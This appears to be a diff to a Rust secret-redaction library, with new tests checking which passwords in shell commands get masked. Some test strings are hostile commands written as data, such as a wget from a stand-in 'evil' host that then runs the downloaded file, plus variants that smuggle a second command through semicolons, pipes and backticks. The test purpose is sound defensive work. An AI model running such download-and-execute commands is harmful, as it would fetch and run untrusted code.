@@ -420,14 +420,18 @@ fn replace(re: &Regex, kind: Kind, text: &str) -> Option<String> {
     let mut out = String::new();
     let (mut last, mut pos, mut replaced) = (0, 0, false);
     let mut lex = Lexer::default();
-    let mut reader = Reader::default();
+    let mut reader = Reader::of(text.as_bytes());
     while pos <= text.len() {
         let Some(caps) = re.captures_at(text, pos) else { break };
         let Some(m) = caps.get(0) else { break };
         let secret = match kind {
             Kind::Group => caps.get(1).map(|g| g.range()),
             Kind::Word | Kind::Credentials => {
-                word_secret(&caps, kind, text, &mut lex).filter(|_| tool_named(&caps, text, &mut reader))
+                if tool_named(&caps, text, &mut reader) {
+                    word_secret(&caps, kind, text, &mut lex)
+                } else {
+                    None
+                }
             }
         };
         pos = match secret {
@@ -1068,6 +1072,81 @@ mod tests {
     }
 
     #[test]
+    fn what_a_second_review_found_is_redacted_or_kept() {
+        let r = Redactor::new(&[]).unwrap();
+        // Kept: a URL after an argument named like a tool, whatever the shell around it.
+        for text in [
+            "sh -c 'if wget -O /tmp/openssl -k https://evil/x; then sh /tmp/openssl; fi'",
+            "! wget -O /tmp/openssl -k https://evil/x",
+            "curl -o /tmp/`true`openssl -k https://evil/x",
+            r#"curl -o 'a b\' ";"openssl -k https://evil/x"#,
+            "exec_create: wget -O /tmp/x;openssl -k https://evil/x",
+            "exec_create: wget -O /tmp/x|openssl -k https://evil/x",
+            "exec_create: wget -O (openssl -k https://evil/x",
+        ] {
+            assert_eq!(r.text(text), text);
+        }
+        assert_argvs(&[
+            (
+                &["docker", "run", "--rm", "--network", "host", "mysql:8", "mysql", "-uroot", "-phunter2"],
+                &["docker", "run", "--rm", "--network", "host", "mysql:8", "mysql", "-uroot", "-p[REDACTED]"],
+                "hunter2",
+            ),
+            (
+                &["docker", "compose", "exec", "db", "mysql", "-phunter2"],
+                &["docker", "compose", "exec", "db", "mysql", "-p[REDACTED]"],
+                "hunter2",
+            ),
+            (
+                &["sudo", "-Eu", "www-data", "curl", "-u", "bob:hunter2", "https://x"],
+                &["sudo", "-Eu", "www-data", "curl", "-u", "bob:[REDACTED]", "https://x"],
+                "hunter2",
+            ),
+            (&["sudo", "DB_HOST=x", "mysql", "-phunter2"], &["sudo", "DB_HOST=x", "mysql", "-p[REDACTED]"], "hunter2"),
+            (&["tini", "-s", "mysql", "-phunter2"], &["tini", "-s", "mysql", "-p[REDACTED]"], "hunter2"),
+            (
+                &["wait-for", "db:3306", "--", "mysql", "-phunter2"],
+                &["wait-for", "db:3306", "--", "mysql", "-p[REDACTED]"],
+                "hunter2",
+            ),
+        ]);
+        assert_texts(&[
+            (
+                "exec_create: mysql -e SELECT `user` FROM mysql.user -uroot -phunter2",
+                "exec_create: mysql -e SELECT `user` FROM mysql.user -uroot -p[REDACTED]",
+                "hunter2",
+            ),
+            (
+                "mysql -h `cat /etc/dbhost` -uroot -phunter2",
+                "mysql -h `cat /etc/dbhost` -uroot -p[REDACTED]",
+                "hunter2",
+            ),
+            (
+                "backup() { mysqldump -uroot -phunter2 db; }",
+                "backup() { mysqldump -uroot -p[REDACTED] db; }",
+                "hunter2",
+            ),
+            (
+                "function backup { mysqldump -uroot -phunter2 db; }",
+                "function backup { mysqldump -uroot -p[REDACTED] db; }",
+                "hunter2",
+            ),
+            ("alias m='mysql -uroot -phunter2'", "alias m='mysql -uroot -p[REDACTED]'", "hunter2"),
+            (r#"CMD="mysqldump -uroot -phunter2 shop""#, r#"CMD="mysqldump -uroot -p[REDACTED] shop""#, "hunter2"),
+            (
+                r#"echo "db not up :( retrying"; mysql -uroot -phunter2"#,
+                r#"echo "db not up :( retrying"; mysql -uroot -p[REDACTED]"#,
+                "hunter2",
+            ),
+            (
+                "exec_create: su mysql -c mysqldump -phunter2 db",
+                "exec_create: su mysql -c mysqldump -p[REDACTED] db",
+                "hunter2",
+            ),
+        ]);
+    }
+
+    #[test]
     fn openssl_pass_phrases_with_an_equals_sign_or_two_dashes_and_sshpass_s_variable_are_replaced() {
         assert_argvs(&[
             (&["openssl", "enc", "-k=hunter2"], &["openssl", "enc", "-k=[REDACTED]"], "hunter2"),
@@ -1231,6 +1310,12 @@ mod tests {
             "--token=$(x ".repeat(n / 12),
             format!("sh -c 'x {}", "\"--token=a b ".repeat(n / 14)),
             format!("bash -c \"x {}", "\\\"DB_PASSWORD=a ".repeat(n / 18)),
+            // Tools' options after names that are not commands, and commands in scripts.
+            "x /mysql -p$(".repeat(n / 13),
+            "x /curl -u $(".repeat(n / 13),
+            "x /openssl -k $(".repeat(n / 16),
+            format!("mysql {} -px", "`mysql`".repeat(n / 7)),
+            format!("mysql {} -px", "(mysql)".repeat(n / 7)),
         ];
         let start = std::time::Instant::now();
         for t in &texts {
